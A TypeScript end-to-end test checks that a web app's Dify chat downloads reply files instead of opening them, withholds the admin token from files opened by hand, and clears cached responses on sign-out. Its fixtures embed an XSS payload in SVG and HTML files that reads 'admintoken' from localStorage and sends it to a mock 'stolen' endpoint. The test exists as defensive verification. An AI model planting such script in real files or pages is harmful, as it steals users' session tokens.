import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { makeCertificate } from '../../scripts/makeCertificate';
import { db, resetDb } from '../../mocks/db/db';
import { atRoot, createMockListener } from '../../mocks/http';
import { serveByNginx, type RunningNginx } from '../../scripts/serveByNginx';
import { openPage, openTab } from '../e2e/browser';
import { ask, lastAnswer, openChat, untilAnswered } from '../e2e/chat';
import { seeTour } from '../e2e/signIn';

const TOKEN = 'token-of-the-reader';
const DIFY = '/dzb/dify/v1';

/** What a stranger has uploaded: it reads the token, and tells it. */
const steals = `new Image().src = '${DIFY}/stolen?' + localStorage.getItem('admintoken')`;
const script = `<script href="${DIFY}/files/a.js" src="${DIFY}/files/a.js"></script><script>${steals}</script>`;
const FILES: Readonly<Record<string, readonly [type: string, body: string]>> = {
  '/v1/files/a.js': ['text/javascript', steals],
  '/v1/files/a.svg': ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`],
  '/v1/files/a.html': ['text/html', `<!doctype html><p>名单</p>${script}`],
};
const PAGES = ['a.svg', 'a.html'];

const asked: string[] = [];

/** Dify, as far as replies with files need it. Its answers say nothing of caches, but how old they are. */
function answer({ method, url = '' }: IncomingMessage, response: ServerResponse): void {
  const { pathname, search } = new URL(url, nginx.origin);
  asked.push(pathname + search);
  const [type, body] = FILES[pathname] ?? ['application/json', '{"data":[],"has_more":false}'];
  response.setHeader('last-modified', new Date(0).toUTCString());
  if (method !== 'POST') return void response.setHeader('content-type', type).end(body);
  const links = PAGES.map((name) => `[${name}](/files/${name})`).join(' ');
  const sources = [{ document_name: '来源', url: `${nginx.origin}${DIFY}/files/a.html` }];
  const events = [
    { event: 'message', answer: links },
    { event: 'message_end', metadata: { retriever_resources: sources } },
  ].map((event) => `data: ${JSON.stringify({ conversation_id: 'c', task_id: 't', message_id: 'm', ...event })}\n\n`);
  response.setHeader('content-type', 'text/event-stream').end(events.join(''));
}

const servers: Server[] = [];
async function listen(listener: (request: IncomingMessage, response: ServerResponse) => void): Promise<string> {
  const server = createServer(listener);
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

let folder: string;
let nginx: RunningNginx;
beforeAll(async () => {
  folder = mkdtempSync(path.join(tmpdir(), 'dify-files-'));
  const backend = await listen(atRoot(createMockListener()));
  const optional = { ...makeCertificate(folder), dify: await listen(answer) };
  nginx = await serveByNginx({ root: path.resolve('dist'), backend, preview: backend, optional });
});
afterAll(async () => {
  await nginx.close();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
  rmSync(folder, { recursive: true });
});
beforeEach(() => {
  resetDb();
  db.sessions.set(TOKEN, 'admin');
  asked.length = 0;
});

test('files of replies are saved, not opened; opened by hand they get no token; nothing of Dify is left after a sign-out (§19.14)', async () => {
  const page = await openPage();
  await seeTour(page, nginx.origin);
  await page.goto(`${nginx.origin}/dzb/favicon.svg`);
  await page.evaluate(
    ([token, dify]) => {
      localStorage.setItem('admintoken', token);
      localStorage.setItem('difyChatConfig', JSON.stringify({ apiKey: 'x', baseURL: dify }));
    },
    [TOKEN, DIFY] as const,
  );
  await page.goto(`${nginx.origin}/dzb/#/workbench`);
  const chat = await openChat(page, 'mini');
  await ask(chat, '名单在哪里？');
  await untilAnswered(chat);
  const reply = lastAnswer(chat);
  await reply.getByRole('button', { name: '1 来源' }).click();
  for (const name of [...PAGES, '来源']) {
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      reply.getByRole('link', { name, exact: true }).click(),
    ]);
    expect(download.url()).toContain(`${DIFY}/files/`);
    expect(await download.failure()).toBeNull();
  }
  expect(
    page
      .context()
      .pages()
      .filter((opened) => opened.url().includes('/files/')),
  ).toEqual([]);

  for (const name of PAGES) {
    const tab = await openTab(page.context());
    await tab.goto(`${nginx.origin}${DIFY}/files/${name}`, { waitUntil: 'networkidle' });
    await tab.close();
  }
  expect(asked.filter((address) => address.includes('stolen'))).toEqual([]);

  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /^账号：/ }).click();
  await page.getByRole('menuitem', { name: '退出登录' }).click();
  await page.getByRole('form', { name: '登录' }).waitFor();
  const seen = [...new Set(asked)].map((address) => DIFY + address.replace(/^\/v1/, ''));
  expect(seen.length).toBeGreaterThan(PAGES.length);
  const kept = await page.evaluate(async (addresses) => {
    const options = { cache: 'only-if-cached', mode: 'same-origin' } as const;
    const found = addresses.map((address) => fetch(address, options).then(({ ok }) => (ok ? address : '')));
    return (await Promise.allSettled(found)).flatMap((result) => (result.status === 'fulfilled' ? result.value : []));
  }, seen);
  expect(kept.filter(Boolean)).toEqual([]);
});
